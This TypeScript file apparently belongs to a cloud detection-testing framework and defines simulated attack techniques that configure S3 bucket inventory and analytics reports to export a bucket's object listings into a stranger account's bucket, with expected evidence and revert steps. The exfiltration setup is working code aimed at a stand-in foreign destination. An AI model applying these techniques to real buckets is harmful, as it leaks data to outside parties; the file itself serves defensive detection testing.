import {
  DeleteBucketAnalyticsConfigurationCommand,
  DeleteBucketInventoryConfigurationCommand,
  PutBucketAnalyticsConfigurationCommand,
  PutBucketInventoryConfigurationCommand,
} from '@aws-sdk/client-s3';
import { bucketOf } from '../../../functions/isolation/subject';
import { type AttackTechnique, STRANGER } from '../technique';

const inventory = (name: string, destination: string, AccountId?: string): AttackTechnique => ({
  name,
  check: 'storage.reports',
  detonate: async ({ subject, root: { s3 } }) => {
    const of = { Bucket: bucketOf(subject), Id: 'support' };
    await s3.send(
      new PutBucketInventoryConfigurationCommand({
        ...of,
        InventoryConfiguration: {
          ...{ Id: of.Id, IsEnabled: true, IncludedObjectVersions: 'All', Schedule: { Frequency: 'Daily' } },
          Destination: { S3BucketDestination: { Bucket: `arn:aws:s3:::${destination}`, Format: 'CSV', AccountId } },
        },
      }),
    );
    return {
      expectedEvidence: `inventory support lists the bucket’s objects in arn:aws:s3:::${destination}`,
      revert: () => s3.send(new DeleteBucketInventoryConfigurationCommand(of)),
    };
  },
});

export const STORAGE_REPORT_TECHNIQUES: readonly AttackTechnique[] = [
  inventory('write an inventory of the bucket into a stranger’s', 'strangers-inventory', STRANGER),
  inventory('write an inventory of the bucket into another of the account', 'support-inventory'),
  {
    name: 'write an analysis of the bucket into a stranger’s',
    check: 'storage.reports',
    detonate: async ({ subject, root: { s3 } }) => {
      const of = { Bucket: bucketOf(subject), Id: 'support' };
      const S3BucketDestination = { Bucket: 'arn:aws:s3:::strangers-analyses', Format: 'CSV' as const };
      const DataExport = { OutputSchemaVersion: 'V_1' as const, Destination: { S3BucketDestination } };
      await s3.send(
        new PutBucketAnalyticsConfigurationCommand({
          ...of,
          AnalyticsConfiguration: { Id: of.Id, StorageClassAnalysis: { DataExport } },
        }),
      );
      return {
        expectedEvidence: 'analysis support lists the bucket’s objects in arn:aws:s3:::strangers-analyses',
        revert: () => s3.send(new DeleteBucketAnalyticsConfigurationCommand(of)),
      };
    },
  },
];
